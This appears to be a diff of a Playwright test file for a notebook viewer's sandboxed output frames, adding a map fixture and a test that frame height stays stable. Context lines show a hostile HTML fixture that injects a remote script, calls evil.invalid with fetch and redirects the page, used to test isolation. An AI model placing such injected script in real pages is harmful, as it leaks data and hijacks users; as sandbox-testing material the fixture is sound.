@@ -36,8 +36,21 @@ document.head.append(Object.assign(document.createElement('script'), {src: 'http
 fetch('https://evil.invalid/fetch').catch(() => {});
 setTimeout(() => { location = 'https://evil.invalid/self'; }, 300);
 </script>"""
-FOLIUM = """<script src="https://cdn.example.invalid/leaflet.js"></script><div id="map" style="height: 100px"></div>
-<script>L.map('map').setView([1, 2], 3); document.title = 'map'</script>"""
+FOLIUM = """<!DOCTYPE html><html><head><script src="https://cdn.example.invalid/leaflet.js"></script>
+<style>html, body {{width: 100%; height: 100%; margin: 0; padding: 0}}</style>
+<style>#map {{position: relative; height: {height}}}</style></head>
+<body><div class="folium-map" id="map"></div></body>
+<script>
+L.tileLayer('https://tiles.example.invalid/{{z}}/{{x}}/{{y}}').addTo(L.map('map').setView([1, 2], 3)); L.heatLayer()</script></html>"""
+TRUST = "Make this Notebook Trusted to load map: File -> Trust Notebook"
+
+
+def folium(height: str) -> str:
+    """A map in the frame in which folium shows it, with a plug-in whose library is not there."""
+    frame = f'<iframe srcdoc="{html.escape(FOLIUM.format(height=height))}" style="position:absolute;width:100%;height:100%"></iframe>'
+    return f'<div style="width:100%"><div style="position:relative;height:0;padding-bottom:60%"><span>{TRUST}</span>{frame}</div></div>'
+
+
 OUTPUTS = {
     "plotly": data(
         "application/vnd.plotly.v1+json", {"data": [{"type": "bar", "x": ["pear"], "y": [3]}], "layout": {"title": {"text": "Fruit"}}}
@@ -50,7 +63,8 @@ OUTPUTS = {
     ),
     "widget": data("application/vnd.jupyter.widget-view+json", {"model_id": "abc"}),
     "bokeh": data("text/html", f'<div id="place"></div><script>{BOKEH}</script>'),
-    "map": data("text/html", f'<iframe srcdoc="{html.escape(FOLIUM)}"></iframe>'),
+    "map": data("text/html", folium("100.0%")),
+    "low map": data("text/html", folium("300.0px")),
     "hostile": data("text/html", HOSTILE),
 }
 DRAWN = {
@@ -60,6 +74,7 @@ DRAWN = {
     "widget": "text=depth",
     "bokeh": "text=Bokeh 3.8",
     "map": ".leaflet-container",
+    "low map": ".leaflet-container",
 }
 
 
@@ -109,6 +124,20 @@ def test_a_click_draws(tab, name):
     expect(frame.locator(DRAWN[name]).first).to_be_visible()
     tab.locator(f"{cell(name)} .nb-run").click()
     expect(tab.locator(f"{cell(name)} iframe")).to_have_count(0)
+
+
+def test_a_map_has_a_height_of_its_own_and_says_what_it_lacks(tab):
+    expect(tab.get_by_text("Make this Notebook Trusted")).to_have_count(0)
+    for name, height in (("map", 484), ("low map", 304)):
+        here = tab.locator(cell(name))
+        here.locator(".nb-run").click()
+        expect(here.locator("[role=status]")).to_contain_text("L.heatLayer is not a function")
+        expect(here.locator("[role=status]")).to_contain_text("tiles.example.invalid")
+        expect(here.locator("iframe")).to_have_css("height", f"{height}px")
+        for _ in range(20):  # a frame that grows with its content, and that with the frame, grows at every look
+            tab.evaluate("() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))")
+        expect(here.locator("iframe")).to_have_css("height", f"{height}px")
+        here.locator(".nb-run").click()
 
 
 def test_a_hostile_output_reaches_nothing(tab, site):
